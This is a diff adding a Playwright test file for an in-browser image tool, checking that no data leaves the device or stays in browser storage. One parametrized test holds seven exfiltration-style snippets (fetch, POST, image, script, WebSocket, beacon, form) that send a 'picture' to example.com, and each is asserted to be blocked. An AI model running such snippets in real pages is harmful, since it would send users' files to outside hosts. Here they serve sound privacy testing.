@@ -1,0 +1,91 @@
+"""Nothing leaves the device, and no picture stays in the browser's storage."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Request
+
+from tests.browser.backdrop import Backdrop, Shot
+
+STORED = """async () => ({
+  local: localStorage.length,
+  session: sessionStorage.length,
+  records: (await Promise.all((await indexedDB.databases()).map(({name}) => new Promise(done => {
+    const opening = indexedDB.open(name);
+    opening.onsuccess = () => {
+      const database = opening.result, stores = Array.from(database.objectStoreNames);
+      if (!stores.length) return done(0);
+      const counting = database.transaction(stores).objectStore(stores[0]).count();
+      counting.onsuccess = () => done(counting.result);
+    };
+  })))).reduce((sum, count) => sum + count, 0),
+  cookies: document.cookie,
+  cached: (await Promise.all((await caches.keys()).map(async name =>
+    (await (await caches.open(name)).keys()).map(request => new URL(request.url).pathname)))).flat(),
+})"""
+
+
+def test_a_whole_visit_only_reads_from_its_own_origin(
+    backdrop: Backdrop, shot: Callable[..., Shot], address: str
+) -> None:
+    asked: list[Request] = []
+    backdrop.page.context.on("request", lambda request: asked.append(request))
+    backdrop.give(shot("coffee"))
+    backdrop.wait_better()
+    backdrop.save()
+    assert any("isnet" in request.url for request in asked)
+    assert all(request.url.startswith((address, "blob:")) for request in asked)
+    assert all(request.method == "GET" and not request.post_data for request in asked)
+
+
+def test_only_networks_are_stored(backdrop: Backdrop, shot: Callable[..., Shot]) -> None:
+    backdrop.give(shot("coffee"))
+    backdrop.wait_better()
+    stored = backdrop.page.evaluate(STORED)
+    cached = stored.pop("cached")
+    assert cached
+    assert all(path.endswith(".bin") for path in cached)
+    # PyScript opens two databases of its own at every start and puts nothing into them.
+    assert stored == {"local": 0, "session": 0, "records": 0, "cookies": ""}
+
+
+@pytest.mark.console_errors
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "fetch('https://example.com/').then(() => 'sent', () => 'refused')",
+        "fetch('https://example.com/', {method: 'POST', body: 'picture'})"
+        ".then(() => 'sent', () => 'refused')",
+        """new Promise(done => { const image = new Image();
+            image.onload = () => done('sent'); image.onerror = () => done('refused');
+            image.src = 'https://example.com/picture.png'; })""",
+        """new Promise(done => { const script = document.createElement('script');
+            script.onload = () => done('sent'); script.onerror = () => done('refused');
+            script.src = 'https://example.com/script.js'; document.head.append(script); })""",
+        """new Promise(done => { try { const socket = new WebSocket('wss://example.com/');
+            socket.onopen = () => done('sent'); socket.onerror = () => done('refused');
+            } catch { done('refused') } })""",
+        """new Promise(done => {
+            addEventListener('securitypolicyviolation', () => done('refused'));
+            navigator.sendBeacon('https://example.com/', 'picture'); })""",
+        """new Promise(done => {
+            addEventListener('securitypolicyviolation', () => done('refused'));
+            const form = document.createElement('form'); form.method = 'post';
+            form.action = 'https://example.com/'; document.body.append(form); form.submit(); })""",
+    ],
+    ids=["fetch", "post", "image", "script", "socket", "beacon", "form"],
+)
+def test_the_policy_refuses_other_origins(backdrop: Backdrop, attempt: str, address: str) -> None:
+    reached: list[str] = []
+    backdrop.page.context.on("response", lambda answer: reached.append(answer.url))
+    assert backdrop.page.evaluate(attempt) == "refused"
+    assert not [url for url in reached if not url.startswith((address, "blob:"))]
+
+
+def test_no_file_names_another_origin_to_load_from(dist: Path) -> None:
+    own = [dist / "index.html", *dist.glob("app-*/*.*"), *dist.glob("app-*/static/*")]
+    for path in own:
+        if path.suffix in {".html", ".css", ".js", ".json"}:
+            text = path.read_text("utf-8").replace("http://www.w3.org/", "")
+            assert "://" not in text, path
